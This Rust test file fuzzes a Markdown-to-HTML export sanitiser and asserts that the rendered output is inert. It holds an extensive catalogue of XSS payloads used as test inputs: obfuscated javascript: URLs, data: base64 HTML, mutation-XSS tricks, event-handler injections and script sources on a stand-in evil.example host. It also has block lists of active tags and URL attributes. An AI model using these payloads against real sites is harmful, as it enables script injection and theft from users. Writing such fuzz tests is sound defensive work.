//! Fuzzing the Markdown renderer behind the HTML export: whatever a person (or a bundle) wrote,
//! the HTML holds no script, no event handler, no style and no link or source that is not http,
//! https or mailto — checked by parsing the output with a real HTML parser (html5ever, through
//! dom_query), so that entity-encoded and oddly spaced variants are seen as a browser sees them.
use dom_query::Document;
use hrc_core::domain::key_issue::KeyIssueInput;
use hrc_core::export::html::sanitised_markdown;
use hrc_core::export::{export, ExportFormat, Section};
use proptest::prelude::*;

use crate::support::with_session;

/// Elements that run, load or submit something, or restyle the page.
const ACTIVE: &[&str] = &[
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "link", "meta",
    "base", "form", "input", "button", "textarea", "select", "svg", "math", "img", "video",
    "audio", "source", "track", "picture", "template", "portal", "noscript",
];

/// Attributes whose value a browser follows as a URL.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "longdesc",
    "usemap",
    "ping",
    "xlink:href",
    "manifest",
    "codebase",
    "lowsrc",
    "dynsrc",
];

/// The scheme a browser would see in a URL attribute's (already entity-decoded) value: it drops
/// leading and trailing C0 controls and spaces, and tabs and line breaks anywhere.
fn scheme(url: &str) -> Option<String> {
    let url: String = url
        .trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let colon = url.find(':')?;
    let candidate = &url[..colon];
    let is_scheme = candidate
        .chars()
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic())
        && candidate
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
    // A colon after a slash, '?' or '#' belongs to a relative URL's path or query.
    is_scheme.then(|| candidate.to_ascii_lowercase())
}

/// Everything active found in `html`, parsed as a browser parses it; empty when it is inert.
fn active_parts(doc: &Document) -> Vec<String> {
    let mut found = Vec::new();
    for node in doc.root().descendants_it().filter(|n| n.is_element()) {
        let name = node
            .node_name()
            .map(|n| n.to_ascii_lowercase())
            .unwrap_or_default();
        if ACTIVE.contains(&name.as_str()) {
            found.push(format!("<{name}>"));
        }
        for attr in node.attrs() {
            let attr_name = attr.name.local.as_ref().to_ascii_lowercase();
            let value: &str = &attr.value;
            if attr_name.starts_with("on") {
                found.push(format!("<{name} {attr_name}=…> (an event handler)"));
            }
            if attr_name == "style" {
                found.push(format!("<{name} style={value:?}>"));
            }
            if URL_ATTRIBUTES.contains(&attr_name.as_str()) {
                match scheme(value) {
                    Some(s) if ["http", "https", "mailto"].contains(&s.as_str()) => {}
                    Some(s) => found.push(format!("<{name} {attr_name}={value:?}> (a {s}: URL)")),
                    // Resolved against wherever the file is opened: file:// on disk, and
                    // `//host/share` reaches out to a network share.
                    None => found.push(format!("<{name} {attr_name}={value:?}> (a relative URL)")),
                }
            }
        }
    }
    found
}

/// Checks one rendering: inert as parsed, inert again once re-serialised and parsed (no
/// mutation into something active), and no `<script` anywhere in the text.
fn assert_inert(source: &str, html: &str) {
    assert!(
        !html.to_ascii_lowercase().contains("<script"),
        "{source:?} gave {html:?}"
    );
    let doc = Document::fragment(html);
    let found = active_parts(&doc);
    assert!(found.is_empty(), "{source:?} gave {html:?}: {found:?}");
    let again = Document::fragment(doc.html());
    let found = active_parts(&again);
    assert!(found.is_empty(), "{source:?} re-parsed gave {found:?}");
}

/// Ways of writing `javascript:` (and other schemes that run or smuggle content) that browsers
/// or sloppy sanitisers have let through.
fn hostile_scheme() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "javascript:",
        "JavaScript:",
        "JAVASCRIPT:",
        " javascript:",
        "java\tscript:",
        "java\nscript:",
        "java\rscript:",
        "\u{1}javascript:",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "&#X6a;avascript:",
        "&#0000106;avascript:",
        "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58",
        "javascript&colon;",
        "javascript&#58;",
        "javascript&#x3a;",
        "jav&#x09;ascript:",
        "jav&#x0A;ascript:",
        "jav&Tab;ascript:",
        "%6Aavascript:",
        "vbscript:",
        "livescript:",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "file:///etc/passwd#",
        "blob:",
        "tauri://localhost/",
        "ipc://localhost/",
        "//evil.example/",
    ])
    .prop_map(str::to_string)
}

/// A piece of hostile Markdown or HTML.
fn fragment() -> impl Strategy<Value = String> {
    let handler = prop::sample::select(vec![
        "onerror",
        "onload",
        "onclick",
        "ONMOUSEOVER",
        "onFocus",
        "onanimationstart",
        "onpointerenter",
        "onbegin",
        "on",
    ]);
    let tag = prop::sample::select(vec![
        "div",
        "a",
        "p",
        "span",
        "img",
        "svg",
        "math",
        "iframe",
        "body",
        "details",
        "video",
        "audio",
        "form",
        "input",
        "button",
        "marquee",
        "table",
        "td",
        "style",
        "object",
        "embed",
        "base",
        "meta",
        "link",
        "template",
        "noscript",
        "xmp",
        "textarea",
        "title",
        "select",
        "blockquote",
        "q",
        "area",
        "image",
        "isindex",
        "frameset",
    ]);
    let payload = prop::sample::select(vec!["alert(1)", "alert`1`", "window.__pwned=1", ""]);
    prop_oneof![
        (hostile_scheme(), payload.clone()).prop_map(|(s, p)| format!("[x]({s}{p})")),
        (hostile_scheme(), payload.clone()).prop_map(|(s, p)| format!("[x](<{s}{p}>)")),
        (hostile_scheme(), payload.clone()).prop_map(|(s, p)| format!("<{s}{p}>")),
        (hostile_scheme(), payload.clone()).prop_map(|(s, p)| format!("[x][r]\n\n[r]: {s}{p}\n")),
        (hostile_scheme(), payload.clone()).prop_map(|(s, p)| format!("![x]({s}{p})")),
        (hostile_scheme(), payload.clone()).prop_map(|(s, p)| format!("<a href=\"{s}{p}\">x</a>")),
        (hostile_scheme(), payload.clone()).prop_map(|(s, p)| format!("<a href='{s}{p}'>x</a>")),
        (hostile_scheme(), payload.clone()).prop_map(|(s, p)| format!("<a href={s}{p}>x</a>")),
        (hostile_scheme(), payload.clone())
            .prop_map(|(s, p)| format!("<blockquote cite=\"{s}{p}\">x</blockquote>")),
        (hostile_scheme(), payload.clone()).prop_map(|(s, p)| format!("<area href=\"{s}{p}\">")),
        (hostile_scheme(), payload.clone()).prop_map(|(s, p)| format!(
            "<form action=\"{s}{p}\"><button formaction=\"{s}{p}\">x</button></form>"
        )),
        (hostile_scheme(), payload.clone())
            .prop_map(|(s, p)| format!("<svg><a xlink:href=\"{s}{p}\"><text>x</text></a></svg>")),
        (hostile_scheme(), payload.clone())
            .prop_map(|(s, p)| format!("<math><mi xlink:href=\"{s}{p}\">x</mi></math>")),
        (hostile_scheme(), payload.clone())
            .prop_map(|(s, p)| format!("<meta http-equiv=\"refresh\" content=\"0;url={s}{p}\">")),
        (hostile_scheme(), payload.clone())
            .prop_map(|(s, p)| format!("<iframe src=\"{s}{p}\"></iframe>")),
        (tag.clone(), handler.clone(), payload.clone())
            .prop_map(|(t, h, p)| format!("<{t} {h}=\"{p}\">x</{t}>")),
        (tag.clone(), handler.clone(), payload.clone())
            .prop_map(|(t, h, p)| format!("<{t}/{h}={p}>")),
        (tag.clone(), handler, payload.clone())
            .prop_map(|(t, h, p)| format!("<{t} x=\"\" {h} = '{p}' src=x>")),
        (tag.clone(), payload.clone())
            .prop_map(|(t, p)| format!("<{t} style=\"background:url(javascript:{p})\">x</{t}>")),
        payload
            .clone()
            .prop_map(|p| format!("<script>{p}</script>")),
        payload
            .clone()
            .prop_map(|p| format!("<SCRIPT SRC=//evil.example/x.js>{p}</SCRIPT>")),
        payload
            .clone()
            .prop_map(|p| format!("<scr<script>ipt>{p}</scr</script>ipt>")),
        payload
            .clone()
            .prop_map(|p| format!("<svg><script>{p}</script></svg>")),
        payload
            .clone()
            .prop_map(|p| format!("<iframe srcdoc=\"<script>{p}</script>\"></iframe>")),
        payload
            .clone()
            .prop_map(|p| format!("<!--<script>{p}</script>-->")),
        payload
            .clone()
            .prop_map(|p| format!("<![CDATA[<script>{p}</script>]]>")),
        payload
            .clone()
            .prop_map(|p| format!("<noscript><p title=\"</noscript><img src=x onerror={p}>\">")),
        payload
            .clone()
            .prop_map(|p| format!("<xmp><img src=x onerror={p}></xmp>")),
        payload
            .clone()
            .prop_map(|p| format!("<math><mtext><table><mglyph><style><img src=x onerror={p}>")),
        payload.clone().prop_map(|p| format!(
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror={p}>"
        )),
        payload
            .clone()
            .prop_map(|p| format!("<style>@import 'javascript:{p}';</style>")),
        payload.clone().prop_map(|p| format!(
            "<object data=\"javascript:{p}\"></object><embed src=\"javascript:{p}\">"
        )),
        payload
            .clone()
            .prop_map(|p| format!("<base href=\"javascript:{p}//\"><a href=\"/x\">x</a>")),
        payload
            .clone()
            .prop_map(|p| format!("`<script>{p}</script>`")),
        payload.prop_map(|p| format!("```html\n<script>{p}</script>\n```")),
        tag.prop_map(|t| format!("<{t}>")),
        "[<>\"'&#;:=/a-zA-Z0-9 \\n\\t()\\[\\]!*_`|-]{0,80}",
        "\\PC{0,60}",
        any::<String>(),
    ]
}

/// Hostile pieces joined as Markdown joins them: inline, in lists, quotes, tables, code.
fn hostile_markdown() -> impl Strategy<Value = String> {
    let glue = prop::sample::select(vec![
        "",
        " ",
        "\n",
        "\n\n",
        "\n> ",
        "\n* ",
        "\n1. ",
        "\n| a | b |\n|---|---|\n| ",
        " | ",
        "\n    ",
        "**",
        "_",
        "\n# ",
        "\\",
        "<",
        "\"",
        "'",
    ]);
    prop::collection::vec((fragment(), glue), 1..6).prop_map(|parts| {
        parts
            .into_iter()
            .map(|(f, g)| format!("{f}{g}"))
            .collect::<String>()
    })
}

#[test]
fn a_catalogue_of_known_attacks_comes_out_inert() {
    let cases = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript&#x3A;alert(1))",
        "[x](java\tscript:alert(1))",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<A HREF=\"JaVaScRiPt:alert(1)\">x</A>",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[y][x]",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "[share](//evil.example/share)",
        "<a href=\"%6Aavascript:alert(1)\">x</a>",
    ];
    for source in cases {
        assert_inert(source, &sanitised_markdown(source));
    }
    // What is safe still works.
    let html = sanitised_markdown("[ISHR](https://ishr.ch) and <mailto:info@ishr.ch>");
    let doc = Document::fragment(html.as_str());
    let hrefs: Vec<String> = doc
        .select("a[href]")
        .iter()
        .filter_map(|a| a.attr("href").map(|h| h.to_string()))
        .collect();
    assert_eq!(hrefs, ["https://ishr.ch", "mailto:info@ishr.ch"], "{html}");
}

#[test]
fn the_checker_sees_what_a_browser_sees() {
    // The checks themselves: an entity-encoded javascript: link is caught once parsed.
    let doc =
        Document::fragment("<a href=\"&#106;avascript:alert(1)\" onclick=x>x</a><script></script>");
    assert_eq!(active_parts(&doc).len(), 3, "{:?}", active_parts(&doc));
    assert_eq!(scheme("java\tscript:x").as_deref(), Some("javascript"));
    assert_eq!(scheme("\u{1} JavaScript:x").as_deref(), Some("javascript"));
    assert_eq!(scheme("/a:b"), None);
    assert_eq!(scheme("https://x").as_deref(), Some("https"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn rendered_markdown_is_inert(source in hostile_markdown()) {
        assert_inert(&source, &sanitised_markdown(&source));
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 16, failure_persistence: None, ..ProptestConfig::default() })]

    /// The whole exported page: written text goes through the renderer, the rest is escaped.
    #[test]
    fn an_exported_page_is_inert(title in hostile_markdown(), overview in hostile_markdown()) {
        let (mut store, _dir, session) = with_session();
        store
            .create_key_issue(
                session.id,
                &KeyIssueInput {
                    title: format!("T {title}"),
                    overview: Some(overview.clone()),
                    asks: Some(title.clone()),
                    ..Default::default()
                },
            )
            .unwrap();
        let html = export(&store, session.id, ExportFormat::Html, &Section::defaults()).unwrap();
        let html = String::from_utf8(html).unwrap();
        let doc = Document::from(html.as_str());
        let body = doc.select("body").html();
        assert_inert(&overview, &body);
        // The page's own head: one policy that forbids every script and remote load, one style.
        prop_assert_eq!(doc.select("script").length(), 0);
        prop_assert_eq!(doc.select("style").length(), 1);
        let csp = doc.select("meta[http-equiv='Content-Security-Policy']").attr("content");
        prop_assert_eq!(csp.as_deref(), Some("default-src 'none'; style-src 'unsafe-inline'"));
    }
}
